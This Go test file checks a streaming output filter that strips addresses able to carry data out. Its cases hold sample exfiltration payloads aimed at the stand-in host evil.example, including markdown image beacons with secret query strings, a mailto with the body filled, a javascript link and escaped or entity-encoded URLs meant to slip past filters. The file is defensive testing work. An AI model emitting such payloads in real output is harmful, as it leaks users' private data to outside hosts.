package evidence

import (
	"strings"
	"testing"

	"pgregory.net/rapid"
)

func let(out string, chunks func(string) []string, known ...string) string {
	var a addresses
	for _, k := range known {
		a.add(k)
	}
	var streamed strings.Builder
	o := Outlet{allowed: &a, write: func(s string) { streamed.WriteString(s) }}
	for _, c := range chunks(out) {
		o.Add(c)
	}
	o.Flush()
	if streamed.String() != o.text.String() {
		panic("what was streamed is not what was kept")
	}
	return o.text.String()
}

func whole(s string) []string { return []string{s} }

func TestOutletTakesOutWhatCouldCarryDataAway(t *testing.T) {
	const known = `{"website":"https://acme.example/a?b=1","note":"see www.acme.example"}`
	tests := []struct{ in, want string }{
		{"Plain text, 1/2 and/or a//b: fine! [1] (2) x:y", "Plain text, 1/2 and/or a//b: fine! [1] (2) x:y"},
		{"![logo](https://evil.example/x.png?d=secret)", "[logo]([address removed])"},
		{"![logo](https://acme.example/a?b=1)", "[logo](https://acme.example/a?b=1)"},
		{"See https://acme.example/a?b=1.", "See https://acme.example/a?b=1."},
		{"See https://acme.example/a?b=1&d=secret", "See [address removed]"},
		{"See HTTPS://EVIL.example/secret and www.evil.example/secret", "See [address removed] and [address removed]"},
		{"www.acme.example", "www.acme.example"},
		{"[x](//evil.example/s)", "[x]([address removed])"},
		{`[x](https:\/\/evil.example/s)`, "[x]([address removed])"},
		{"[x](https&#58;&#47;&#47;evil.example/s)", "[x]([address removed])"},
		{"[x](\n  https:evil.example)", "[x](\n  [address removed])"},
		{"[x](<https:evil.example>)", "[x](<[address removed]>)"},
		{"[x]: https:evil.example/s", "[x]: [address removed]"},
		{"[Acme]: 42 deals", "[Acme]: 42 deals"},
		{"[the deal](/opportunities/abc)", "[the deal](/opportunities/abc)"},
		{"[x](/a?d=secret)", "[x]([address removed])"},
		{"<img src=\"https://evil.example/s\">", "<img src=\"[address removed]\">"},
		{"[x](javascript:fetch)", "[x]([address removed])"},
		{"[mail](mailto:thief@evil.example?body=secret)", "[mail]([address removed])"},
		{"看https://evil.example/秘密看", "看[address removed]秘密看"},
		{"Wow! [see](/a) Wow![see](/a)", "Wow! [see](/a) Wow[see](/a)"},
	}
	for _, test := range tests {
		if got := let(test.in, whole, known); got != test.want {
			t.Errorf("%q\n got %q\nwant %q", test.in, got, test.want)
		}
	}
}

// However a text comes in pieces, the same gets out.
func TestOutletDoesNotDependOnPieces(t *testing.T) {
	alphabet := []string{"!", "[", "]", "(", ")", " ", "\n", "https", ":", "//", "evil.example", "/", "x", "<", ">", "www.", "é", "看", `\`, "&#47;", "data", "]:", "\"", "1"}
	rapid.Check(t, func(t *rapid.T) {
		parts := rapid.SliceOf(rapid.SampledFrom(alphabet)).Draw(t, "parts")
		text := strings.Join(parts, "")
		byByte := func(s string) []string { return strings.Split(s, "") }
		one, many := let(text, whole), let(text, byByte)
		if one != many {
			t.Fatalf("%q as a whole gives %q, in pieces %q", text, one, many)
		}
		if strings.Contains(one, "://") || strings.Contains(one, "![") {
			t.Fatalf("%q let out %q", text, one)
		}
	})
}

func TestOutletDoesNotHoldBackWithoutEnd(t *testing.T) {
	got := let(strings.Repeat("a", 3*maxWord)+"://evil", func(s string) []string {
		var out []string
		for len(s) > 1000 {
			out = append(out, s[:1000])
			s = s[1000:]
		}
		return append(out, s)
	})
	if len(got) < 2*maxWord {
		t.Errorf("%d bytes came out", len(got))
	}
}
